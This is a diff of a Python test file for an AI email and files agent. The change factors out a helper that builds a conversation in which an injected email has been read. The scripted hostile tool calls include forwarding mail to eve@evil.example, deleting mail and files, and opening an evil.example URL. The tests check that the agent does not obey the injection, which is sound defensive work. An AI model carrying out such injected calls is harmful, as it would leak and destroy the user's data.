@@ -34,17 +34,23 @@ def _agent(tmp_path: Path, turns: list[Any]) -> tuple[Agent, ScriptedConfirmer]:
                  AgentConfig(), build_router(registry)), confirmer
 
 
-def test_an_injected_email_cannot_bring_in_the_deletions_it_asks_for(tmp_path: Path) -> None:
-    agent, confirmer = _agent(tmp_path, [
-        call("mail_delete", id=3), call("mail_forward", id=3, to=["eve@evil.example"]),
-        "Here is your email."])
-    history: list[dict[str, Any]] = [
-        {"role": "user", "content": "What is in my latest email, my documents and my calendar?"},
+def _after_reading(request: str) -> list[dict[str, Any]]:
+    """A conversation in which the user asked ``request`` and the injected mail was read."""
+    return [
+        {"role": "user", "content": request},
         {"role": "assistant", "content": "", "tool_calls": [
             {"id": "c0", "type": "function", "function": {"name": "mail_read",
                                                           "arguments": "{}"}}]},
         {"role": "tool", "name": "mail_read", "tool_call_id": "c0", "content": INJECTED},
     ]
+
+
+def test_an_injected_email_cannot_bring_in_the_deletions_it_asks_for(tmp_path: Path) -> None:
+    agent, confirmer = _agent(tmp_path, [
+        call("mail_delete", id=3), call("mail_forward", id=3, to=["eve@evil.example"]),
+        "Here is your email."])
+    history = _after_reading(
+        "What is in my latest email, my documents and my calendar?")
     offered = {t.name for t in agent.tools_for(history, "thanks")}
     assert {"mail_read", "files_list", "calendar_list_events"} <= offered
     assert not offered & {"mail_delete", "files_delete", "calendar_delete_event",
@@ -80,13 +86,7 @@ def test_a_refused_call_does_not_widen_the_next_requests_tools(tmp_path: Path) -
         call("files_delete", path="Documents/report.pdf"),
         call("system_open_url", url="https://evil.example/x"),
         "You're welcome!", "You're welcome!", "You're welcome!"])
-    history: list[dict[str, Any]] = [
-        {"role": "user", "content": "What is in my latest email?"},
-        {"role": "assistant", "content": "", "tool_calls": [
-            {"id": "c0", "type": "function", "function": {"name": "mail_read",
-                                                          "arguments": "{}"}}]},
-        {"role": "tool", "name": "mail_read", "tool_call_id": "c0", "content": INJECTED},
-    ]
+    history = _after_reading("What is in my latest email?")
     agent.run(history, "ok")
     refused = [m for m in history if m.get("role") == "tool"
                and "not offered for this request" in m["content"]]
